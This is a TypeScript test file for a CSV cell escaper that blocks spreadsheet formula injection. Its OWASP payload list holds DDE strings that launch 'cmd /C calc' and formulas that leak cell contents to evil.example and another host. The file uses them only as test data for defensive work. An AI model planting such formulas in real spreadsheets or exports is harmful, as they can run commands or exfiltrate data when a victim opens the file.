import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { escapeCsvCell, FORMULA_TRIGGERS } from '../../src/io/escape-csv-cell.ts';

function parseOne(cell: string): string {
  // A second cell after it shows that the escaped cell ended where it should.
  const parsed = Papa.parse<string[]>(`${cell},end\r\n`, { header: false, delimiter: ',', newline: '\r\n' });
  expect(parsed.errors).toEqual([]);
  expect(parsed.data[0]).toHaveLength(2);
  expect(parsed.data[0]![1]).toBe('end');
  return parsed.data[0]![0]!;
}

describe('escapeCsvCell', () => {
  it.each(FORMULA_TRIGGERS.map((c) => [JSON.stringify(c), c]))('prefixes a text starting with %s with a quote mark', (_, c) => {
    const text = `${c}1+1`;
    const escaped = escapeCsvCell(text);
    expect(parseOne(escaped)).toBe(`'${text}`);
  });

  it('neutralises the classic payloads: =HYPERLINK, +cmd, -2+3, @SUM', () => {
    expect(escapeCsvCell('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
    expect(escapeCsvCell("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(escapeCsvCell('-2+3+cmd')).toBe("'-2+3+cmd");
    expect(escapeCsvCell('@SUM(A1)')).toBe("'@SUM(A1)");
  });

  // OWASP's CSV injection page (owasp.org/www-community/attacks/CSV_Injection): cells must not begin with =, +, -, @,
  // tab (0x09) or carriage return (0x0D); its examples and the usual DDE payloads.
  const OWASP_PAYLOADS = [
    '=1+1', '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")',
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "=2+5+cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', "=IMPORTXML(CONCAT(\"http://x/?v=\", CONCATENATE(A2:E2)), \"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0", '@SUM(A1:A10)', '+1', '-1',
  ];
  it.each(OWASP_PAYLOADS.map((p) => [JSON.stringify(p), p]))('reads %s back as text that no spreadsheet runs', (_, payload) => {
    const read = parseOne(escapeCsvCell(payload));
    expect(read).toBe(`'${payload}`);
    expect((FORMULA_TRIGGERS as readonly string[]).includes(read.charAt(0))).toBe(false);
  });

  it('quotes a tab- or CR-led text after prefixing it, so the control character survives', () => {
    expect(escapeCsvCell('\t=1')).toBe(`"'\t=1"`);
    expect(escapeCsvCell('\r=1')).toBe(`"'\r=1"`);
  });

  it('leaves typed numbers as numbers, negative ones included, and escapes the same text as a string', () => {
    expect(escapeCsvCell(-2.58)).toBe('-2.58');
    expect(escapeCsvCell(0)).toBe('0');
    expect(escapeCsvCell(1e-7)).toBe('1e-7');
    expect(escapeCsvCell('-2.58')).toBe("'-2.58");
  });

  it('writes null, undefined and non-finite numbers as an empty cell, booleans as true/false', () => {
    expect([null, undefined, Number.NaN, Infinity, -Infinity].map(escapeCsvCell)).toEqual(['', '', '', '', '']);
    expect([true, false].map(escapeCsvCell)).toEqual(['true', 'false']);
  });

  it('quotes cells with commas, quotes and line breaks (RFC 4180) and leaves plain Chinese text alone', () => {
    expect(escapeCsvCell('司法局,法制科')).toBe('"司法局,法制科"');
    expect(escapeCsvCell('他说"败诉"')).toBe('"他说""败诉"""');
    expect(escapeCsvCell('一\n二')).toBe('"一\n二"');
    expect(escapeCsvCell('苏州工业园区劳动和社会保障局')).toBe('苏州工业园区劳动和社会保障局');
    expect(escapeCsvCell(' 司法局 ')).toBe('" 司法局 "'); // edge spaces kept by readers that trim
  });

  it('round-trips any text through papaparse: the same text, with a quote mark in front exactly when it starts with a trigger', () => {
    const text = fc.oneof(fc.string(), fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ',', '"', "'", '法', 'a', ' ') }));
    fc.assert(
      fc.property(text, (s) => {
        const expected = (FORMULA_TRIGGERS as readonly string[]).includes(s.charAt(0)) ? `'${s}` : s;
        expect(parseOne(escapeCsvCell(s))).toBe(expected);
        const first = escapeCsvCell(s).replace(/^"/, '').charAt(0);
        expect((FORMULA_TRIGGERS as readonly string[]).includes(first)).toBe(false);
      }),
      { seed: 20191231, numRuns: 500 },
    );
  });

  it('round-trips any finite number through papaparse as the same number', () => {
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (x) => {
        expect(Number(parseOne(escapeCsvCell(x)))).toBe(x === 0 ? 0 : x);
      }),
      { seed: 7, numRuns: 300 },
    );
  });
});
